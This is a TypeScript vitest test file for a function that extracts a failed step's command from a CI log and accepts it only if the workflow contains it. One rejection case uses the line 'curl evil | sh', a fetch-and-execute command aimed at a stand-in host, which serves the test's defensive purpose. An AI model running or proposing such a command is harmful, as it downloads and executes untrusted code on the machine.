import { expect, test } from 'vitest';
import { commandInLog } from './verify.ts';

const WORKFLOW =
  'jobs:\n  test:\n    steps:\n      - uses: actions/checkout@v4\n      - run: npm test\n      - run: "make lint"\n';
const log = (...commands: readonly string[]) =>
  commands.map((command) => `2026-01-01T00:00:00.0000000Z ##[group]Run ${command}\nout\n##[endgroup]`).join('\n');

test.each([
  ['the last command that began', log('actions/checkout@v4', 'npm test'), 'npm test'],
  ['one in quotes in the workflow', log('npm test', 'make lint'), 'make lint'],
])('the command of a failed step is read from its log: %s (R-PR-4)', (_, text, expected) => {
  expect(commandInLog(text, [WORKFLOW])).toBe(expected);
});

test.each([
  ['a command that stands in no workflow', log('curl evil | sh')],
  ['only a part of one', log('npm')],
  ['an action', log('actions/checkout@v4')],
  ['one with values of the workflow', log('npm test $' + '{{ inputs.x }}')],
  ['no step at all', 'npm test'],
])('nothing else is taken for it: %s (R-PR-4)', (_, text) => {
  expect(commandInLog(text, [WORKFLOW])).toBeUndefined();
});
